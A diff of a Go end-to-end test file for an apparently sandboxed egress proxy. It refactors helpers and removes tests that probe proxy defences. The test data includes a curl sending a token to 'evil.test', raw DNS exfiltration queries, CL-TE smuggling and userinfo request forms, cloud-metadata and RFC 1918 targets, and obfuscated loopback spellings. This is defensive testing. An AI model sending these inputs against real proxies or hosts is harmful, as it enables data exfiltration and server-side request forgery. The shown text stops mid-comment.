@@ -10,7 +10,6 @@ package e2e
 import (
 	"encoding/json"
 	"fmt"
-	"net"
 	"net/http"
 	"net/http/cgi"
 	"os"
@@ -19,7 +18,8 @@ import (
 	"strconv"
 	"strings"
 	"testing"
-	"time"
+
+	"github.com/corral-sandbox/corral/qualify"
 )
 
 const python = "/usr/bin/python3" // the system's; pyenv shims under /root are not granted
@@ -33,20 +33,20 @@ func needTool(t *testing.T, path string) {
 
 // clientsNet allows api.allowed.test (HTTP on 127.0.0.2) and
 // tls.allowed.test (HTTPS on 127.0.0.3) on their ports only.
-func clientsNet(h, s *upstream) egressNet {
-	return egressNet{
-		allow: []ep{{"api.allowed.test", []int{h.port}}, {"tls.allowed.test", []int{s.port}}},
-		private: []ep{
-			{h.ip + "/32", []int{h.port}},
-			{s.ip + "/32", []int{s.port}},
+func clientsNet(h, s *qualify.Upstream) qualify.Egress {
+	return qualify.Egress{
+		Allow: []qualify.Endpoint{ep("api.allowed.test", h.Port), ep("tls.allowed.test", s.Port)},
+		Private: []qualify.Endpoint{
+			ep(h.IP+"/32", h.Port),
+			ep(s.IP+"/32", s.Port),
 		},
-		hosts: map[string]string{"api.allowed.test": h.ip, "tls.allowed.test": s.ip},
+		Hosts: map[string]string{"api.allowed.test": h.IP, "tls.allowed.test": s.IP},
 	}
 }
 
 // makeGitRepo creates a bare repository served by git http-backend under
 // /git/ of u and returns the canary committed in it.
-func makeGitRepo(t *testing.T, u *upstream) string {
+func makeGitRepo(t *testing.T, u *qualify.Upstream) string {
 	t.Helper()
 	backend := "/usr/lib/git-core/git-http-backend"
 	if _, err := os.Stat(backend); err != nil {
@@ -73,7 +73,7 @@ func makeGitRepo(t *testing.T, u *upstream) string {
 	gitc(work, "add", "README")
 	gitc(work, "commit", "-q", "-m", "e2e")
 	gitc(root, "clone", "-q", "--bare", work, filepath.Join(root, "repo.git"))
-	u.mux.Handle("/git/", &cgiHandler{root: root, backend: backend})
+	u.Mux.Handle("/git/", &cgiHandler{root: root, backend: backend})
 	return canary
 }
 
@@ -87,10 +87,10 @@ func TestEgressClients(t *testing.T) {
 		canary := makeGitRepo(t, s)
 		caDir, ca := writeCA(t, id)
 		n := clientsNet(h, s)
-		hURL := "http://" + h.hostPort("api.allowed.test")
-		sURL := "https://" + s.hostPort("tls.allowed.test")
-		hOK := "upstream-ok " + h.hostPort("api.allowed.test") + " /hello"
-		sOK := "upstream-ok " + s.hostPort("tls.allowed.test") + " /hello"
+		hURL := "http://" + h.HostPort("api.allowed.test")
+		sURL := "https://" + s.HostPort("tls.allowed.test")
+		hOK := "upstream-ok " + h.HostPort("api.allowed.test") + " /hello"
+		sOK := "upstream-ok " + s.HostPort("tls.allowed.test") + " /hello"
 		nodeHTTP := `const http=require('http');const [u,hp]=process.argv.slice(1);
 http.get({host:'127.0.0.1',port:3128,path:u,headers:{Host:hp}},r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>console.log('out: '+r.statusCode+' '+b.trim()))}).on('error',e=>console.log('out: error '+e.message));`
 		nodeHTTPS := `const http=require('http'),tls=require('tls'),fs=require('fs');const [host,port,ca]=process.argv.slice(1);const t=host+':'+port;
@@ -110,8 +110,8 @@ except Exception as e: print("out: error", e)`
 			{"python-http", python, fmt.Sprintf("%s -c '%s' %s/hello", python, pyGet, hURL), hOK},
 			{"python-https", python, fmt.Sprintf("SSL_CERT_FILE=%s %s -c '%s' %s/hello", ca, python, pyGet, sURL), sOK},
 			{"git-https", "git", fmt.Sprintf("cd \"$(mktemp -d)\" && GIT_SSL_CAINFO=%s git clone -q %s/git/repo.git clone 2>&1; echo \"out: $(cat clone/README 2>&1)\"", ca, sURL), canary},
-			{"node-http", "node", fmt.Sprintf("node -e \"$1\" %s/hello %s", hURL, h.hostPort("api.allowed.test")), "200 " + hOK},
-			{"node-https", "node", fmt.Sprintf("node -e \"$1\" tls.allowed.test %d %s", s.port, ca), "HTTP/1.1 200 OK " + sOK},
+			{"node-http", "node", fmt.Sprintf("node -e \"$1\" %s/hello %s", hURL, h.HostPort("api.allowed.test")), "200 " + hOK},
+			{"node-https", "node", fmt.Sprintf("node -e \"$1\" tls.allowed.test %d %s", s.Port, ca), "HTTP/1.1 200 OK " + sOK},
 		}
 		for _, c := range cases {
 			t.Run(c.name, func(t *testing.T) {
@@ -125,7 +125,7 @@ except Exception as e: print("out: error", e)`
 					args = nodeHTTPS
 				}
 				wd := mkdir(t, id, "egress")
-				pol := writePolicy(t, id, policy{RO: []string{caDir}, Network: "proxy", NetRules: n.yaml()})
+				pol := writePolicy(t, id, policy{RO: []string{caDir}, Network: "proxy", NetRules: n.YAML()})
 				res := corral(t, run{id: id, policy: pol, workdir: wd, args: []string{"/bin/sh", "-c", script, "sh", args}})
 				want(t, res, "out", c.want, false)
 			})
@@ -169,7 +169,7 @@ func TestEgressKeepAlive(t *testing.T) {
 	needTool(t, python)
 	eachIdent(t, func(t *testing.T, id *ident) {
 		h := newUpstream(t, "127.0.0.2", 0, false)
-		n := egressNet{allow: []ep{{"api.allowed.test", []int{h.port}}}, private: []ep{{h.ip + "/32", []int{h.port}}}, hosts: map[string]string{"api.allowed.test": h.ip}}
+		n := qualify.Egress{Allow: []qualify.Endpoint{ep("api.allowed.test", h.Port)}, Private: []qualify.Endpoint{ep(h.IP+"/32", h.Port)}, Hosts: map[string]string{"api.allowed.test": h.IP}}
 		py := `import http.client,sys
 hp=sys.argv[1]
 c=http.client.HTTPConnection("127.0.0.1",3128,timeout=10)
@@ -179,12 +179,12 @@ for i in range(100):
     r=c.getresponse(); b=r.read()
     if r.status==200 and b.startswith(b"upstream-ok"): ok+=1
 print("keepalive: %d"%ok)`
-		res, _ := proxyRun(t, id, n, nil, []string{"-v"}, fmt.Sprintf("%s -c '%s' %s", python, py, h.hostPort("api.allowed.test")))
+		res, _ := proxyRun(t, id, n, nil, []string{"-v"}, fmt.Sprintf("%s -c '%s' %s", python, py, h.HostPort("api.allowed.test")))
 		want(t, res, "keepalive", "100", false)
-		if got := len(h.requests()); got != 100 {
+		if got := len(h.Requests()); got != 100 {
 			t.Errorf("upstream served %d requests, want 100", got)
 		}
-		if a := h.accepts.Load(); a != 1 {
+		if a := h.Accepts.Load(); a != 1 {
 			t.Errorf("upstream accepted %d connections for 100 keep-alive requests, want 1", a)
 		}
 		if !strings.Contains(res.stderr, "corral: egress: 100 allowed, 0 denied") {
@@ -200,17 +200,17 @@ func TestEgressWebSocket(t *testing.T) {
 	eachIdent(t, func(t *testing.T, id *ident) {
 		h := newUpstream(t, "127.0.0.2", 0, false)
 		evil := newUpstream(t, "127.0.0.4", 0, false)
-		n := egressNet{
-			allow:   []ep{{"api.allowed.test", []int{h.port}}},
-			private: []ep{{h.ip + "/32", []int{h.port}}, {evil.ip + "/32", []int{evil.port}}},
-			hosts:   map[string]string{"api.allowed.test": h.ip, "evil.test": evil.ip},
+		n := qualify.Egress{
+			Allow:   []qualify.Endpoint{ep("api.allowed.test", h.Port)},
+			Private: []qualify.Endpoint{ep(h.IP+"/32", h.Port), ep(evil.IP+"/32", evil.Port)},
+			Hosts:   map[string]string{"api.allowed.test": h.IP, "evil.test": evil.IP},
 		}
 		script := fmt.Sprintf("%s ws %s http://%s/ws; %s ws %s http://%s/ws | sed 's/^ws:/ws-evil:/'",
-			probeBin, proxyAddr, h.hostPort("api.allowed.test"), probeBin, proxyAddr, evil.hostPort("evil.test"))
+			probeBin, proxyAddr, h.HostPort("api.allowed.test"), probeBin, proxyAddr, evil.HostPort("evil.test"))
 		res, _ := proxyRun(t, id, n, nil, nil, script)
 		want(t, res, "ws", "echo opcode=1 corral-ws-echo", false)
 		want(t, res, "ws-evil", "status 403", true)
-		evil.assertUntouched(t, "the evil upstream")
+		assertUntouched(t, evil, "the evil upstream")
 	})
 }
 
@@ -229,7 +229,7 @@ func TestEgressAudit(t *testing.T) {
 		script := fmt.Sprintf(`echo "allowed: $(curl -sS -m 10 -o /dev/null -w '%%{http_code}' 'http://%s/a?token=%s-1')"
 echo "tls: $(curl -sS -m 10 -o /dev/null -w '%%{http_code}' --cacert %s 'https://%s/b?token=%s-2')"
 echo "denied: $(curl -sS -m 10 'http://evil.test/c?token=%s-3')"`,
-			h.hostPort("api.allowed.test"), secret, ca, s.hostPort("tls.allowed.test"), secret, secret)
+			h.HostPort("api.allowed.test"), secret, ca, s.HostPort("tls.allowed.test"), secret, secret)
 		res, _ := proxyRun(t, id, clientsNet(h, s), []string{caDir}, []string{"-v", "--audit", logf}, script)
 		assertCode(t, res, 0)
 		want(t, res, "allowed", "200", false)
@@ -269,11 +269,11 @@ echo "denied: $(curl -sS -m 10 'http://evil.test/c?token=%s-3')"`,
 		if allowed == nil || tunnel == nil || denied == nil {
 			t.Fatalf("want class 4002 events: Allowed api.allowed.test, Allowed tls.allowed.test (CONNECT), Denied evil.test; got %d events:\n%s", len(evs), raw)
 		}
-		if allowed.Dst.IP != h.ip || allowed.Dst.Port != h.port || allowed.HTTPResponse.Code != 200 || allowed.Unmapped.SandboxID == "" || allowed.Unmapped.Rule == "" {
-			t.Errorf("allowed event: want ip %s port %d, code 200, a sandbox id and the rule; got %s", h.ip, h.port, allowed.raw)
+		if allowed.Dst.IP != h.IP || allowed.Dst.Port != h.Port || allowed.HTTPResponse.Code != 200 || allowed.Unmapped.SandboxID == "" || allowed.Unmapped.Rule == "" {
+			t.Errorf("allowed event: want ip %s port %d, code 200, a sandbox id and the rule; got %s", h.IP, h.Port, allowed.raw)
 		}
-		if tunnel.Dst.IP != s.ip || tunnel.Dst.Port != s.port || tunnel.HTTPRequest.Method != "CONNECT" {
-			t.Errorf("CONNECT event: want CONNECT to %s:%d; got %s", s.ip, s.port, tunnel.raw)
+		if tunnel.Dst.IP != s.IP || tunnel.Dst.Port != s.Port || tunnel.HTTPRequest.Method != "CONNECT" {
+			t.Errorf("CONNECT event: want CONNECT to %s:%d; got %s", s.IP, s.Port, tunnel.raw)
 		}
 		if denied.ActionID != 2 || denied.HTTPResponse.Code != 403 || denied.Dst.Port != 80 || denied.Unmapped.Reason == "" {
 			t.Errorf("denied event: want action_id 2, code 403, port 80 and a reason; got %s", denied.raw)
@@ -283,422 +283,6 @@ echo "denied: $(curl -sS -m 10 'http://evil.test/c?token=%s-3')"`,
 		}
 		if !strings.Contains(res.stderr, "corral: egress: 2 allowed, 1 denied") || !strings.Contains(res.stderr, "corral: egress: denied 1x evil.test:80") {
 			t.Errorf("-v summary: want \"corral: egress: 2 allowed, 1 denied\" and \"denied 1x evil.test:80 ...\"\n%s", res)
-		}
-	})
-}
-
-// P19: DNS exfiltration. The sandbox has no route to any resolver, the
-// proxy resolves only allowed names, and a test DNS server on loopback
-// sees no query, however the workload tries.
-func TestP19_DNSExfiltration(t *testing.T) {
-	needTool(t, "curl")
-	udp := listenCounter(t, "udp", "127.0.0.53:0")
-	if udp == nil {
-		t.Skip("cannot bind 127.0.0.53")
-	}
-	_, port, _ := net.SplitHostPort(udp.addr)
-	tcp := listenCounter(t, "tcp", "127.0.0.53:"+port)
-	if tcp == nil {
-		t.Fatal("cannot bind the DNS server's TCP port")
-	}
-	eachIdent(t, func(t *testing.T, id *ident) {
-		h := newUpstream(t, "127.0.0.2", 0, false)
-		n := egressNet{allow: []ep{{"api.allowed.test", []int{h.port}}}, private: []ep{{h.ip + "/32", []int{h.port}}}, hosts: map[string]string{"api.allowed.test": h.ip}}
-		tok := token()
-		// A DNS query for <tok>.exfil.test, as dig @127.0.0.53 -p PORT would send it.
-		pyDNS := `import socket,struct,sys
-name,port=sys.argv[1],int(sys.argv[2])
-q=struct.pack(">HHHHHH",0x1234,0x0100,1,0,0,0)+b"".join(bytes([len(l)])+l.encode() for l in name.split("."))+b"\0"+struct.pack(">HH",1,1)
-for proto in ("udp","tcp"):
-    try:
-        s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM if proto=="udp" else socket.SOCK_STREAM); s.settimeout(2)
-        if proto=="udp": s.sendto(q,("127.0.0.53",port)); s.recv(512)
-        else: s.connect(("127.0.0.53",port)); s.sendall(struct.pack(">H",len(q))+q); s.recv(512)
-        print("dns-"+proto+": answered")
-    except Exception as e: print("dns-"+proto+": failed", type(e).__name__)
-try: socket.getaddrinfo("gai-"+name,80); print("gai: resolved")
-except Exception as e: print("gai: failed", type(e).__name__)`
-		script := fmt.Sprintf(`getent hosts getent-%[1]s.exfil.test; echo "getent: $?"
-%[2]s -c '%[3]s' %[1]s.exfil.test %[4]s
-echo "curl: $(curl -sS -m 10 http://b-%[1]s.exfil.test/ 2>&1)"
-echo "allowed: $(curl -sS -m 10 -o /dev/null -w '%%{http_code}' http://%[5]s/)"
-%[6]s connect udp 127.0.0.53:%[4]s; %[6]s connect tcp 127.0.0.53:%[4]s`, tok, python, pyDNS, port, h.hostPort("api.allowed.test"), probeBin)
-		logf := filepath.Join(mkdir(t, id, "auditlog"), "audit.jsonl")
-		res, _ := proxyRun(t, id, n, nil, []string{"--audit", logf}, script)
-		want(t, res, "getent", "2", false) // "not found": no resolver reachable
-		if _, err := os.Stat(python); err == nil {
-			want(t, res, "gai", "failed", true)
-			want(t, res, "dns-udp", "failed", true)
-			want(t, res, "dns-tcp", "failed", true)
-		}
-		v, _ := lineValue(res.stdout, "curl")
-		var body denialBody
-		if err := json.Unmarshal([]byte(v), &body); err != nil || body.Host != "b-"+tok+".exfil.test" {
-			t.Errorf("curl http://b-<tok>.exfil.test/: want the proxy's JSON 403 for that host, got %q\n%s", v, res)
-		}
-		want(t, res, "allowed", "200", false)
-		if v, _ := lineValue(res.stdout, "connect tcp 127.0.0.53:"+port); v == "ok" {
-			t.Errorf("TCP to the DNS server's address connected from the sandbox\n%s", res)
-		}
-		for _, e := range egressEvents(t, logf) {
-			if strings.Contains(e.Dst.Hostname, "exfil.test") && e.Dst.IP != "" {
-				t.Errorf("the proxy resolved a denied name: %s", e.raw)
-			}
-		}
-	})
-	// The subtests are parallel: they run after this function returns.
-	t.Cleanup(func() {
-		if u, c := udp.n.Load(), tcp.n.Load(); u != 0 || c != 0 {
-			t.Errorf("the test DNS server saw %d datagrams and %d TCP connections from the sandbox", u, c)
-		}
-	})
-}
-
-// P20: request forms. Absolute-form to a denied host, a Host header that
-// differs from the target, HTTP/1.0 without Host, userinfo tricks and
-// origin-form requests are refused with 403/400; the evil upstream (mapped
-// by hosts and even covered by allow_private, but not allowed) logs nothing.
-func TestP20_RequestForms(t *testing.T) {
-	eachIdent(t, func(t *testing.T, id *ident) {
-		h := newUpstream(t, "127.0.0.2", 0, false)
-		evil := newUpstream(t, "127.0.0.4", 0, false)
-		n := egressNet{
-			allow:   []ep{{"api.allowed.test", []int{h.port}}},
-			private: []ep{{h.ip + "/32", []int{h.port}}, {evil.ip + "/32", []int{evil.port}}},
-			hosts:   map[string]string{"api.allowed.test": h.ip, "evil.test": evil.ip},
-		}
-		good, bad := h.hostPort("api.allowed.test"), evil.hostPort("evil.test")
-		cases := []struct{ name, req, want string }{
-			{"control", "GET http://" + good + "/ HTTP/1.1\\r\\nHost: " + good + "\\r\\nConnection: close\\r\\n\\r\\n", "200"},
-			{"control-1.0", "GET http://" + good + "/ HTTP/1.0\\r\\n\\r\\n", "200"},
-			{"absolute-denied", "GET http://" + bad + "/ HTTP/1.1\\r\\nHost: " + bad + "\\r\\n\\r\\n", "403"},
-			{"host-mismatch", "GET http://" + good + "/ HTTP/1.1\\r\\nHost: " + bad + "\\r\\n\\r\\n", "400"},
-			{"host-mismatch-port", "GET http://" + good + "/ HTTP/1.1\\r\\nHost: api.allowed.test:1\\r\\n\\r\\n", "400"},
-			{"http10-no-host", "GET http://" + bad + "/ HTTP/1.0\\r\\n\\r\\n", "403"},
-			{"userinfo", "GET http://api.allowed.test@" + bad + "/ HTTP/1.1\\r\\nHost: " + bad + "\\r\\n\\r\\n", "400|403"},
-			{"userinfo-port", "GET http://" + good + "@" + bad + "/ HTTP/1.1\\r\\nHost: " + bad + "\\r\\n\\r\\n", "400|403"},
-			{"origin-form", "GET / HTTP/1.1\\r\\nHost: " + bad + "\\r\\n\\r\\n", "400|403"},
-			{"origin-form-allowed-host", "GET / HTTP/1.1\\r\\nHost: " + good + "\\r\\n\\r\\n", "400|403"},
-			{"connect-denied", "CONNECT " + bad + " HTTP/1.1\\r\\nHost: " + bad + "\\r\\n\\r\\n", "403"},
-			{"connect-userinfo", "CONNECT api.allowed.test@" + bad + " HTTP/1.1\\r\\nHost: " + bad + "\\r\\n\\r\\n", "400|403"},
-			{"two-host-headers", "GET http://" + good + "/ HTTP/1.1\\r\\nHost: " + good + "\\r\\nHost: " + bad + "\\r\\n\\r\\n", "400"},
-			{"pct-encoded-host", "GET http://evil%2etest:" + strconv.Itoa(evil.port) + "/ HTTP/1.1\\r\\nHost: " + bad + "\\r\\n\\r\\n", "400|403"},
-			{"backslash-userinfo", "GET http://" + good + "\\\\@" + bad + "/ HTTP/1.1\\r\\nHost: " + good + "\\r\\n\\r\\n", "400|403"},
-			{"trailing-dot", "GET http://evil.test.:" + strconv.Itoa(evil.port) + "/ HTTP/1.1\\r\\nHost: evil.test.:" + strconv.Itoa(evil.port) + "\\r\\n\\r\\n", "400|403"},
-			{"https-scheme", "GET https://" + bad + "/ HTTP/1.1\\r\\nHost: " + bad + "\\r\\n\\r\\n", "400|403"},
-			{"double-space", "GET  http://" + bad + "/ HTTP/1.1\\r\\n\\r\\n", "400|403"},
-			{"cl-te-smuggle", "GET http://" + good + "/ HTTP/1.1\\r\\nHost: " + good + "\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://" + bad + "/ HTTP/1.1\\r\\nHost: " + bad + "\\r\\n\\r\\n", "400|403"},
-		}
-		var script strings.Builder
-		for _, c := range cases {
-			fmt.Fprintf(&script, "%s rawhttp %s '%s' | sed 's/^rawhttp/%s/'\n", probeBin, proxyAddr, c.req, c.name)
-		}
-		if _, err := exec.LookPath("curl"); err == nil {
-			fmt.Fprintf(&script, "echo \"curl-userinfo: $(curl -sS -m 10 -o /dev/null -w '%%{http_code}' http://api.allowed.test@%s/)\"\n", bad)
-			fmt.Fprintf(&script, "echo \"curl-host-header: $(curl -sS -m 10 -o /dev/null -w '%%{http_code}' -H 'Host: %s' http://%s/)\"\n", bad, good)
-			cases = append(cases, struct{ name, req, want string }{"curl-userinfo", "", "403"}, struct{ name, req, want string }{"curl-host-header", "", "400"})
-		}
-		res, _ := proxyRun(t, id, n, nil, nil, script.String())
-		for _, c := range cases {
-			v, ok := lineValue(res.stdout, c.name)
-			if !ok {
-				t.Errorf("%s: no output\n%s", c.name, res)
-				continue
-			}
-			code := v
-			if f := strings.Fields(v); len(f) > 1 && strings.HasPrefix(f[0], "HTTP/") {
-				code = f[1]
-			}
-			if !strings.Contains("|"+c.want+"|", "|"+code+"|") {
-				t.Errorf("%s: got %q, want status %s\n%s", c.name, v, c.want, res)
-			}
-		}
-		evil.assertUntouched(t, "the evil upstream")
-	})
-}
-
-// P21 and P05 in proxy mode: unsetting the proxy variables, NO_PROXY=*,
-// raw TCP to the upstream's address, to the host's interface addresses and
-// to host loopback services, IPv6, UDP and abstract unix sockets all fail
-// at the network layer; the proxy is the only route out.
-func TestP21_BypassProxy(t *testing.T) {
-	needTool(t, "curl")
-	// Port 3128 elsewhere than 127.0.0.1: the Landlock port rule allows
-	// it, so only the topology stands in the way. Shared by the identities.
-	var fixed []*rawCounter
-	addrs, _ := net.InterfaceAddrs()
-	fixedAddrs := []string{"127.0.0.5:3128", "[::1]:3128"}
-	var ifaceIPs []string // the host's own interface addresses (local delivery only)
-	for _, a := range addrs {
-		ipn, ok := a.(*net.IPNet)
-		if !ok || ipn.IP.IsLoopback() || ipn.IP.IsLinkLocalUnicast() || ipn.IP.IsMulticast() {
-			continue
-		}
-		ifaceIPs = append(ifaceIPs, ipn.IP.String())
-		fixedAddrs = append(fixedAddrs, net.JoinHostPort(ipn.IP.String(), "3128"))
-	}
-	for _, a := range fixedAddrs {
-		if c := listenCounter(t, "tcp", a); c != nil {
-			fixed = append(fixed, c)
-		}
-	}
-	t.Cleanup(func() {
-		for _, c := range fixed {
-			if v := c.n.Load(); v != 0 {
-				t.Errorf("host listener %s saw %d connections from the sandbox", c.addr, v)
-			}
-		}
-	})
-	eachIdent(t, func(t *testing.T, id *ident) {
-		h := newUpstream(t, "127.0.0.2", 0, false)   // allowed through the proxy, target of the bypasses
-		ctl := newUpstream(t, "127.0.0.3", 0, false) // the control: reachable through the proxy
-		n := egressNet{
-			allow:   []ep{{"api.allowed.test", []int{h.port}}, {"ctl.allowed.test", []int{ctl.port}}},
-			private: []ep{{h.ip + "/32", []int{h.port}}, {ctl.ip + "/32", []int{ctl.port}}},
-			hosts:   map[string]string{"api.allowed.test": h.ip, "ctl.allowed.test": ctl.ip},
-		}
-		var counters []*rawCounter
-		add := func(network, addr string) *rawCounter {
-			c := listenCounter(t, network, addr)
-			if c != nil {
-				counters = append(counters, c)
-			}
-			return c
-		}
-		var targets [][2]string // network, address
-		hAddr := net.JoinHostPort(h.ip, strconv.Itoa(h.port))
-		targets = append(targets, [2]string{"tcp", hAddr})
-		if c := add("tcp", "127.0.0.1:0"); c != nil {
-			targets = append(targets, [2]string{"tcp", c.addr})
-		}
-		if c := add("tcp", "[::1]:0"); c != nil {
-			targets = append(targets, [2]string{"tcp", c.addr})
-		}
-		for _, c := range fixed {
-			targets = append(targets, [2]string{"tcp", c.addr})
-		}
-		if c := add("udp", "127.0.0.53:0"); c != nil {
-			targets = append(targets, [2]string{"udp", c.addr})
-		}
-		abstract := "@corral-e2e-" + token()
-		if c := add("unix", abstract); c != nil {
-			targets = append(targets, [2]string{"unix", abstract})
-		}
-		for _, ip := range ifaceIPs {
-			if c := add("tcp", net.JoinHostPort(ip, "0")); c != nil {
-				targets = append(targets, [2]string{"tcp", c.addr})
-			}
-		}
-		var script strings.Builder
-		unset := "env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy"
-		fmt.Fprintf(&script, "%s curl -sS -m 5 http://%s/ >/dev/null 2>&1; echo \"unset-env-name: $?\"\n", unset, h.hostPort("api.allowed.test"))
-		fmt.Fprintf(&script, "%s curl -sS -m 5 http://%s/ >/dev/null 2>&1; echo \"unset-env-ip: $?\"\n", unset, hAddr)
-		fmt.Fprintf(&script, "NO_PROXY='*' no_proxy='*' curl -sS -m 5 http://%s/ >/dev/null 2>&1; echo \"no-proxy-star: $?\"\n", hAddr)
-		fmt.Fprintf(&script, "curl --noproxy '*' -sS -m 5 http://%s/ >/dev/null 2>&1; echo \"noproxy-flag: $?\"\n", hAddr)
-		fmt.Fprintf(&script, "echo \"control: $(curl -sS -m 10 -o /dev/null -w '%%{http_code}' http://%s/)\"\n", ctl.hostPort("ctl.allowed.test"))
-		for _, tg := range targets {
-			fmt.Fprintf(&script, "%s connect %s '%s'\n", probeBin, tg[0], tg[1])
-		}
-		res, _ := proxyRun(t, id, n, nil, nil, script.String())
-		t.Logf("probes:\n%s", res.stdout)
-		want(t, res, "control", "200", false)
-		for _, k := range []string{"unset-env-name", "unset-env-ip", "no-proxy-star", "noproxy-flag"} {
-			v, ok := lineValue(res.stdout, k)
-			if !ok || v == "0" {
-				t.Errorf("%s: curl exit %q, want a failure\n%s", k, v, res)
-			}
-		}
-		for _, tg := range targets {
-			v, ok := lineValue(res.stdout, "connect "+tg[0]+" "+tg[1])
-			if !ok {
-				t.Errorf("connect %s %s not probed\n%s", tg[0], tg[1], res)
-				continue
-			}
-			if v == "ok" && tg[0] != "udp" { // a UDP send succeeds locally; the listener decides
-				t.Errorf("connect %s %s succeeded from the proxy-mode sandbox", tg[0], tg[1])
-			}
-		}
-		h.assertUntouched(t, "the upstream reached without the proxy")
-		for _, c := range counters {
-			if v := c.n.Load(); v != 0 {
-				t.Errorf("host listener %s saw %d connections/datagrams from the sandbox", c.addr, v)
-			}
-		}
-	})
-}
-
-// P22: allowed names mapped (hosts) to loopback, metadata, RFC 1918 and
-// IPv6 loopback/mapped addresses are refused with 403 before any dial,
-// unless allow_private covers the address.
-func TestP22_InternalTargets(t *testing.T) {
-	needTool(t, "curl")
-	eachIdent(t, func(t *testing.T, id *ident) {
-		lo := newUpstream(t, "127.0.0.1", 0, false)
-		port := lo.port
-		lo6, err := startUpstream("::1", port, false, t)
-		if err != nil {
-			t.Logf("no [::1]:%d listener: %v", port, err)
-		}
-		targets := map[string]string{
-			"r-loopback.test": "127.0.0.1",
-			"r-metadata.test": "169.254.169.254",
-			"r-rfc1918.test":  "10.0.0.1",
-			"r-ipv6-lo.test":  "::1",
-			"r-v4mapped.test": "::ffff:127.0.0.1",
-			"r-unspec.test":   "0.0.0.0",
-		}
-		n := egressNet{hosts: targets}
-		for name := range targets {
-			n.allow = append(n.allow, ep{name, []int{port}})
-		}
-		var script strings.Builder
-		for name := range targets {
-			hp := net.JoinHostPort(name, strconv.Itoa(port))
-			fmt.Fprintf(&script, "echo \"http %s: $(curl -sS -m 10 -o /dev/null -w '%%{http_code}' http://%s/)\"\n", name, hp)
-			fmt.Fprintf(&script, "echo \"connect %s: $(curl -sS -m 10 -o /dev/null -w '%%{http_connect}' https://%s/ 2>/dev/null)\"\n", name, hp)
-		}
-		res, _ := proxyRun(t, id, n, nil, nil, script.String())
-		for name := range targets {
-			want(t, res, "http "+name, "403", false)
-			want(t, res, "connect "+name, "403", false)
-		}
-		lo.assertUntouched(t, "the host's 127.0.0.1 listener")
-		if lo6 != nil {
-			lo6.assertUntouched(t, "the host's [::1] listener")
-		}
-
-		// The same name is reachable once allow_private covers the address.
-		n = egressNet{
-			allow:   []ep{{"r-loopback.test", []int{port}}},
-			private: []ep{{"127.0.0.1/32", []int{port}}},
-			hosts:   map[string]string{"r-loopback.test": "127.0.0.1"},
-		}
-		res, _ = proxyRun(t, id, n, nil, nil, fmt.Sprintf("echo \"private: $(curl -sS -m 10 http://r-loopback.test:%d/)\"", port))
-		want(t, res, "private", fmt.Sprintf("upstream-ok r-loopback.test:%d /", port), false)
-	})
-}
-
-// P23: IP literal spellings as CONNECT and absolute-form targets.
-//
-// "as written": the policy allows only api.allowed.test, and allow_private
-// covers 127.0.0.1 and ::1 on the listener's port, so only the allow rules
-// stand between a spelling and the host's loopback listener: every spelling
-// is refused (403/400) and the listener sees nothing.
-//
-// "strict": 127.0.0.1 itself is allowed; the numeric spellings that libc's
-// inet_aton would accept (127.1, 2130706433, 0x7f000001, octal, leading
-// zeros) and the unspecified addresses must still be refused by the
-// authority parser rather than canonicalised into the allowed address; the
-// canonical spelling is the control. (The parser documents that it unmaps
-// IPv4-mapped IPv6 literals and ignores one trailing dot: those reach the
-// allowed 127.0.0.1, which is not a bypass, so they are not asserted here.)
-func TestP23_IPLiteralSpellings(t *testing.T) {
-	eachIdent(t, func(t *testing.T, id *ident) {
-		lo := newUpstream(t, "127.0.0.1", 0, false)
-		port := lo.port
-		p := strconv.Itoa(port)
-		lo6, err := startUpstream("::1", port, false, t)
-		if err != nil {
-			t.Logf("no [::1]:%d listener: %v", port, err)
-		}
-		probeAll := func(n egressNet, spellings []string, control bool) result {
-			var script strings.Builder
-			line := func(name, req string) {
-				fmt.Fprintf(&script, "%s rawhttp %s '%s' | sed 's/^rawhttp:/%s:/'\n", probeBin, proxyAddr, req, name)
-			}
-			if control {
-				line("control-get", "GET http://127.0.0.1:"+p+"/ HTTP/1.1\\r\\nHost: 127.0.0.1:"+p+"\\r\\nConnection: close\\r\\n\\r\\n")
-				line("control-connect", "CONNECT 127.0.0.1:"+p+" HTTP/1.1\\r\\nHost: 127.0.0.1:"+p+"\\r\\n\\r\\n")
-			}
-			for _, s := range spellings {
-				a := s + ":" + p
-				line("get "+s, "GET http://"+a+"/ HTTP/1.1\\r\\nHost: "+a+"\\r\\nConnection: close\\r\\n\\r\\n")
-				line("connect "+s, "CONNECT "+a+" HTTP/1.1\\r\\nHost: "+a+"\\r\\n\\r\\n")
-			}
-			res, _ := proxyRun(t, id, n, nil, nil, script.String())
-			for _, s := range spellings {
-				for _, k := range []string{"get " + s, "connect " + s} {
-					v, ok := lineValue(res.stdout, k)
-					if !ok {
-						t.Errorf("%s: no output\n%s", k, res)
-						continue
-					}
-					if !strings.HasPrefix(v, "HTTP/1.1 403") && !strings.HasPrefix(v, "HTTP/1.1 400") {
-						t.Errorf("%s: got %q, want 403 or 400", k, v)
-					}
-				}
-			}
-			return res
-		}
-		numeric := []string{"127.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.0.0.01", "127.000.000.001", "0x7f.0.0.1", "0.0.0.0", "[::]", "0"}
-		t.Run("as-written", func(t *testing.T) {
-			n := egressNet{
-				allow:   []ep{{"api.allowed.test", []int{port}}},
-				private: []ep{{"127.0.0.1/32", []int{port}}, {"::1/128", []int{port}}},
-				hosts:   map[string]string{"api.allowed.test": "127.0.0.2"},
-			}
-			probeAll(n, append(numeric, "127.0.0.1", "[::ffff:7f00:1]", "[::ffff:127.0.0.1]", "[0:0:0:0:0:ffff:7f00:1]", "[::1]", "127.0.0.1."), false)
-			lo.assertUntouched(t, "the host's 127.0.0.1 listener")
-			if lo6 != nil {
-				lo6.assertUntouched(t, "the host's [::1] listener")
-			}
-		})
-		t.Run("strict", func(t *testing.T) {
-			n := egressNet{
-				allow:   []ep{{"127.0.0.1", []int{port}}},
-				private: []ep{{"127.0.0.1/32", []int{port}}},
-			}
-			before := lo.accepts.Load()
-			res := probeAll(n, numeric, true)
-			want(t, res, "control-get", "HTTP/1.1 200", true)
-			want(t, res, "control-connect", "HTTP/1.1 200", true)
-			time.Sleep(100 * time.Millisecond)
-			// The control GET connects; the control CONNECT may not (the
